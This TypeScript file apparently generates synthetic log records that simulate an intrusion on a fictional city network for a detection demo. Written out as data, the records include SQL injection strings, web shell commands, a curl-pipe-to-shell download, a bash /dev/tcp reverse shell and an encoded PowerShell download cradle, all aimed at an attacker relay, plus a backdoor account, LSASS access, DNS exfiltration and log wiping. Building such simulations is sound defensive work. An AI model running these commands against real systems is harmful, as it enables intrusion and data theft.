import { SeededRandom } from '../../lib/seeded-random.ts'
import { attacker, type DemoHost, hosts } from './city.ts'
import {
  authLine,
  connectionRecord,
  type DemoRecord,
  executionLines,
  firewallLine,
  lookupRecord,
  sudoLine,
  webLine,
  windowsRecord,
} from './lines.ts'

const browser = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36'
const webServerUser = 33

/**
 * From the internet to a web shell on the portal: a scan of the border (minute 0), a search for weak pages (12), SQL
 * injection (15), the upload of a web shell (25), commands through it (26) and a connection back (35). Takes 36 minutes.
 */
export function breakIn(startMs: number): DemoRecord[] {
  const random = new SeededRandom(45)
  const at = (minutes: number, seconds = 0) => startMs + minutes * 60_000 + seconds * 1_000
  const records: DemoRecord[] = []
  const ports = [
    21, 22, 23, 25, 80, 110, 135, 139, 443, 445, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 7001, 8080, 9200,
  ]
  for (let index = 0; index < 130; index++) {
    const to = `10.20.3.${11 + (index % 3)}`
    const flow = {
      action: 'deny',
      from: attacker.address,
      fromPort: 40_000 + index,
      to,
      toPort: ports[index % ports.length]!,
    } as const
    records.push(firewallLine(at(0, index * 0.7), hosts.firewall, flow))
  }
  const request = (
    atMs: number,
    target: string,
    status: number,
    options: { method?: string; agent?: string; bytes?: number } = {},
  ) => {
    const { method = 'GET', agent = browser, bytes = status === 404 ? 162 : 4_096 } = options
    records.push(webLine(atMs, hosts.portal, { client: attacker.address, method, target, status, bytes, agent }))
  }
  const guesses = ['/.git/config', '/.env', '/actuator/env', '/druid/index.html', '/phpinfo.php', '/web.config.bak']
  for (const [index, target] of guesses.entries()) request(at(12, index), target, 404, { agent: 'gobuster/3.6' })
  for (let index = 0; index < 80; index++) {
    request(at(12, 10 + index / 4), `/${random.text(random.integer(3, 9))}/`, 404, { agent: 'gobuster/3.6' })
  }
  for (let index = 0; index < 6; index++) {
    request(
      at(15, index * 20),
      `/news/detail.jsp?id=${index}%27%20union%20select%20${index},user(),version()--`,
      index < 4 ? 500 : 200,
    )
  }
  request(at(25), '/upload/file.do', 200, { method: 'POST', bytes: 88 })
  const shell = '/upload/2026/11/logo.jsp'
  const commands = ['whoami', 'id', 'uname%20-a', 'cat%20/etc/passwd', 'ifconfig', 'netstat%20-an', 'ps%20aux']
  for (const [index, command] of commands.entries())
    request(at(26, index * 15), `${shell}?cmd=${command}`, 200, { bytes: 700 })
  const runs: [string, ...string[]][] = [
    ['/usr/bin/whoami'],
    ['/usr/bin/id'],
    ['/usr/bin/uname', '-a'],
    ['/usr/bin/cat', '/etc/passwd'],
    ['/usr/sbin/ifconfig'],
    ['/usr/bin/netstat', '-an'],
    ['/usr/bin/ps', 'aux'],
  ]
  const run = (atMs: number, serial: number, [executable, ...parameters]: [string, ...string[]]) =>
    records.push(
      ...executionLines(atMs, hosts.portal, { userId: webServerUser, serial, parentId: 2_200, executable, parameters }),
    )
  for (const [index, program] of runs.entries()) run(at(26, index * 15), 7_001 + index, program)
  run(at(34), 7_010, ['/usr/bin/bash', '-c', `curl -s http://${attacker.relay}/x.sh | sh`])
  run(at(35), 7_011, ['/usr/bin/bash', '-c', `bash -i >& /dev/tcp/${attacker.relay}/443 0>&1`])
  return records.sort((a, b) => a.atMs - b.atMs)
}

/**
 * From the portal through the housing office to the finance office and out: an inside scan (second 2), guessed
 * passwords until one fits (8), root and the files of citizens (20), a Windows server and the domain (30), the data out
 * over DNS and HTTPS (40), tracks wiped (50). Takes 52 seconds, so that a first visitor sees it happen.
 */
export function spread(startMs: number): DemoRecord[] {
  const at = (seconds: number) => startMs + Math.round(seconds * 1_000)
  return [...insideScan(at), ...takeHousing(at), ...takeFinance(at), ...stealData(at), ...wipeTracks(at)].sort(
    (a, b) => a.atMs - b.atMs,
  )
}

type At = (seconds: number) => number

function insideScan(at: At): DemoRecord[] {
  const random = new SeededRandom(311)
  return Array.from({ length: 40 }, (_, index) =>
    connectionRecord(at(2 + index / 8), `C${random.text(16)}`, {
      from: hosts.portal.address,
      fromPort: 41_000 + index,
      to: hosts.housingApp.address,
      toPort: 20 + index * 7,
      service: '-',
      state: index % 3 === 0 ? 'REJ' : 'S0',
      seconds: 0.1,
      sent: 0,
      received: 0,
    }),
  )
}

function takeHousing(at: At): DemoRecord[] {
  const target = hosts.housingApp
  const peer = (port: number) => `from ${hosts.portal.address} port ${port} ssh2`
  const records = Array.from({ length: 24 }, (_, index) => {
    const user = ['root', 'admin', 'fangguan'][index % 3]
    return authLine(
      at(8 + index / 3),
      target,
      'sshd',
      5_100 + index,
      `Failed password for ${user} ${peer(52_000 + index)}`,
    )
  })
  const run = (seconds: number, serial: number, executable: string, ...parameters: string[]) =>
    executionLines(at(seconds), target, { userId: 0, serial, parentId: 5_200, executable, parameters })
  records.push(
    authLine(at(17), target, 'sshd', 5_190, `Accepted password for fangguan ${peer(52_040)}`),
    sudoLine(at(20), target, 'fangguan', '/bin/bash'),
    ...run(22, 8_001, '/usr/bin/cat', '/etc/shadow'),
    authLine(
      at(23),
      target,
      'useradd',
      5_230,
      'new user: name=svc_backup, UID=1007, GID=1007, home=/home/svc_backup, shell=/bin/bash, from=/dev/pts/0',
    ),
    authLine(at(24), target, 'usermod', 5_231, "add 'svc_backup' to group 'sudo'"),
    ...run(27, 8_002, '/usr/bin/tar', 'czf', '/tmp/.c.tgz', '/srv/property-records'),
  )
  return records
}

function takeFinance(at: At): DemoRecord[] {
  const security = 'Microsoft-Windows-Security-Auditing'
  const process = (seconds: number, host: DemoHost, image: string, commandLine: string, parent: string) =>
    windowsRecord(at(seconds), host, 'Microsoft-Windows-Sysmon', 1, {
      Image: image,
      CommandLine: commandLine,
      ParentImage: parent,
      User: 'YUNLU\\wang.li',
      ProcessId: '4312',
      ParentProcessId: '2210',
    })
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
  const script = Buffer.from(
    `IEX (New-Object Net.WebClient).DownloadString('http://${attacker.relay}/a')`,
    'utf16le',
  ).toString('base64')
  return [
    windowsRecord(at(30), hosts.files, security, 4624, {
      TargetUserName: 'wang.li',
      TargetDomainName: 'YUNLU',
      LogonType: '3',
      IpAddress: hosts.housingApp.address,
      IpPort: '50122',
      WorkstationName: '-',
      SubjectUserName: '-',
      Status: '0x0',
    }),
    windowsRecord(at(31), hosts.files, 'Service Control Manager', 7045, {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    }),
    process(32, hosts.files, powershell, `powershell.exe -nop -w hidden -enc ${script}`, 'C:\\Windows\\PSEXESVC.exe'),
    process(33, hosts.files, 'C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain', powershell),
    windowsRecord(at(35), hosts.files, 'Microsoft-Windows-Sysmon', 10, {
      SourceImage: 'C:\\Users\\Public\\m.exe',
      SourceProcessId: '4312',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      TargetProcessId: '624',
      GrantedAccess: '0x1010',
      SourceUser: 'YUNLU\\wang.li',
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
    windowsRecord(at(37), hosts.controller, security, 4728, {
      MemberName: 'CN=tmp_ops,CN=Users,DC=yunlu,DC=example',
      MemberSid: 'S-1-5-21-1-2-3-1190',
      TargetUserName: 'Domain Admins',
      TargetDomainName: 'YUNLU',
      SubjectUserName: 'wang.li',
    }),
  ]
}

function stealData(at: At): DemoRecord[] {
  const random = new SeededRandom(77)
  const from = hosts.housingApp.address
  const lookups = Array.from({ length: 60 }, (_, index) =>
    lookupRecord(at(40 + index / 12), `D${random.text(16)}`, {
      from,
      fromPort: 50_000 + index,
      resolver: hosts.resolver.address,
      name: `${random.text(52)}.t.${attacker.domain}`,
      type: 'TXT',
      answers: [],
    }),
  )
  const upload = connectionRecord(at(46), `C${random.text(16)}`, {
    from,
    fromPort: 40_012,
    to: attacker.relay,
    toPort: 443,
    service: 'ssl',
    state: 'SF',
    seconds: 80.5,
    sent: 734_003_200,
    received: 90_000,
  })
  return [...lookups, upload]
}

function wipeTracks(at: At): DemoRecord[] {
  const wipe = {
    userId: 0,
    serial: 8_010,
    parentId: 5_200,
    executable: '/usr/bin/shred',
    parameters: ['-u', '/var/log/auth.log'],
  }
  return [
    ...executionLines(at(50), hosts.housingApp, wipe),
    windowsRecord(at(51), hosts.files, 'Microsoft-Windows-Eventlog', 1102, {
      SubjectUserName: 'wang.li',
      SubjectDomainName: 'YUNLU',
    }),
  ]
}

/** Lesser things that happen anywhere, to stand beside the intrusion: password guessing that fails, malware caught. */
export function sideAttack(startMs: number, number: number): DemoRecord[] {
  const random = new SeededRandom(1_000 + number)
  const from = `203.0.113.${random.integer(100, 250)}`
  if (number % 3 === 1) {
    const path = `file:_C:\\Users\\Public\\${random.text(6)}.exe`
    const data = {
      'Threat Name': 'Trojan:Win32/Wacatac.B!ml',
      'Severity Name': 'Severe',
      Path: path,
      'Detection User': 'YUNLU\\liu.yang',
    }
    return [windowsRecord(startMs, hosts.financeDesk, 'Microsoft-Windows-Windows Defender', 1116, data)]
  }
  if (number % 3 === 2) {
    return Array.from({ length: 30 }, (_, index) => {
      const target = `/${random.text(6)}.php?id=${index}%27%20or%20%271%27=%271`
      return webLine(startMs + index * 700, hosts.portalSecond, {
        client: from,
        method: 'GET',
        target,
        status: 404,
        bytes: 162,
        agent: 'sqlmap/1.8',
      })
    })
  }
  return Array.from({ length: 18 }, (_, index) => {
    const message = `Failed password for invalid user ${random.pick(['test', 'oracle', 'ubuntu', 'guest'])} from ${from} port ${42_000 + index} ssh2`
    return authLine(startMs + index * 1_500, hosts.housingWeb, 'sshd', 6_000 + index, message)
  })
}
